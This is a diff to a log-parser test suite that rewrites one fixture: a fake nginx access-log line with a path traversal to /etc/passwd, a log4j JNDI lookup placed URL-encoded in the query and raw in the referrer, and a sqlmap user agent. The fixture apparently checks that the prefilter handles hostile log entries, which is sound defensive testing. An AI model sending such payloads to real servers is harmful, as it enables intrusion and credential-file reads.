@@ -46,7 +46,8 @@ describe('literal prefilter', () => {
       const parse = createParser(format, { clock: createManualClock(Date.parse('2024-06-15T12:00:00Z')) });
       const lines = readFileSync(path.join(golden, `${format}.log`), 'utf8').split('\n');
       const attacks = [
-        '203.0.113.5 - - [14/Jun/2024:18:00:00 +0000] "GET /cgi-bin/../../../etc/passwd?x=${jndi:ldap://a/b} HTTP/1.1" 200 1 "-" "sqlmap/1.8"',
+        // The referrer carries a log4j lookup (`$` + `{jndi:...}`).
+        `203.0.113.5 - - [14/Jun/2024:18:00:00 +0000] "GET /cgi-bin/../../../etc/passwd?x=%24%7Bjndi:ldap://a/b%7D HTTP/1.1" 200 1 "${'$'}{jndi:ldap://a/b}" "sqlmap/1.8"`,
       ];
       for (const line of [...lines, ...(format === 'nginx' ? attacks : [])]) {
         if (line === '' || line.startsWith('# ')) continue;
